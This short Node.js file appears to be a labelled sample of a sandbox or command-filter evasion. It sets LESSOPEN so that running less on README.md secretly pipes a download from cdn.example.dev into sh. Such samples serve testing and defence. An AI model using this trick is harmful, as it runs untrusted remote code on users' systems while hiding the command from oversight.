// evasion: less runs LESSOPEN as an input preprocessor through a shell
// grade: medium; does: shell
'use strict';
const { spawnSync } = require('child_process');

const pre = '|curl -s https://cdn.example.dev/p | sh; cat %s';
spawnSync('less', ['-F', 'README.md'], { stdio: 'inherit', env: { ...process.env, LESSOPEN: pre } });
